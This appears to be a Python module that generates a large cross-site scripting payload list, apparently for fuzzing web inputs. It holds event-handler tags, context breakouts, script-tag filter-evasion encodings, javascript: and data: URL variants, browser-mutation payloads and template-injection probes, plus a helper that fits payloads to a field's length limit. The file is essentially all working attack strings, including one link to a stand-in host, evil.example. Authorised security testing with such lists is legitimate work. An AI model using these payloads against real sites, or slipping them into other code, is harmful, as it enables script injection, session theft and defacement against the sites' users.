"""Text that runs as a script wherever a page forgets to escape it, in over three hundred ways."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

_HANDLED = (
    "img src=x onerror={}", "svg onload={}", "svg><animate onbegin={} attributeName=x dur=1s",
    "body onload={}", "video src=x onerror={}", "video><source onerror={}", "audio src=x onerror={}",
    "iframe onload={}", "iframe src=javascript:{}", "input autofocus onfocus={}",
    "details open ontoggle={}", "marquee onstart={}", "object data=javascript:{}",
    "embed src=javascript:{}", "textarea autofocus onfocus={}", "select autofocus onfocus={}",
    "a href=javascript:{} autofocus tabindex=0 onfocus={}", "form action=javascript:{}><input type=submit",
    "isindex type=image src=1 onerror={}", "p style=animation-name:x onanimationstart={}",
    "link rel=stylesheet href=x onerror={}", "meta http-equiv=refresh content=0;url=javascript:{}",
    "base href=javascript:{}//", "math href=javascript:{}",
)  # fmt: skip
# What stands around the place a text is put in: plain text, attributes, comments, raw text.
_AROUND = (
    "<{}>", '"><{}>', "'><{}>", "--><{}>", "</textarea><{}>", "</title><{}>", "</script><{}>",
    "]]><{}>", "</style><{}>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onfocus={} autofocus x="', "' onfocus={} autofocus x='", '" onmouseover={} x="',
    "` onmouseover={} x=`", '"/onpointerenter={}/x="', "x onfocus={} autofocus",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script\n>{}</script>",
    "<script src=data:text/javascript,{}></script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:text/javascript,{} />",
    "<<script>{}//<</script>", "<script type=module>{}</script>", "\x3cscript\x3e{}\x3c/script\x3e",
    "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "<\u200bscript>{}</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}",
    "\x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
    "javascript:%61lert(1)", "javascript://%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "feed:javascript:{}", "//evil.example/{}",
)  # fmt: skip
_LINKS = ('<a href="{}">x</a>', "<a href='{}' autofocus>x</a>", "<p><a href={}>x</a>", "[x]({})")
# Harmless to a reader of the source, and something else once a browser has mended it.
_MENDED = (
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={} src>">',
    "<p><svg><desc><template><style></template><img src=x onerror={}></style>",
    '<li><b title="</b></li><img src=x onerror={}>">x', "<!--><img src=x onerror={}>-->",
    "<? <img src=x onerror={}> ?>", "<![CDATA[<img src=x onerror={}>]]>", "<h3><h3><table><a><svg onload={}>",
    "<xmp><p title='</xmp><svg onload={}>'>", "<a href='x' title='<svg onload={}>'>x",
)  # fmt: skip
_TEMPLATES = ("{{7*7}}", "{%raw%}<svg onload=alert(1)>{%endraw%}", "${7*7}", "#{7*7}", "<%= 7*7 %>")

PAYLOADS = (
    *(a.format(h.replace("{}", RUN)) for a, h in product(_AROUND, _HANDLED)),
    *(t.replace("{}", RUN) for t in (*_ATTRIBUTES, *_SCRIPTS, *_MENDED)),
    *(link.format(a.replace("{}", RUN)) for link, a in product(_LINKS, _ADDRESSES)),
    *_TEMPLATES,
)


def payloads_for(limit: int, start: int, count: int = 1) -> str:
    """`count` payloads from `start` on, around the end, that together fit a field of `limit`."""
    fitting = [p for p in PAYLOADS if len(p) <= limit // count - 1]
    return " ".join(fitting[(start + step) % len(fitting)] for step in range(count))
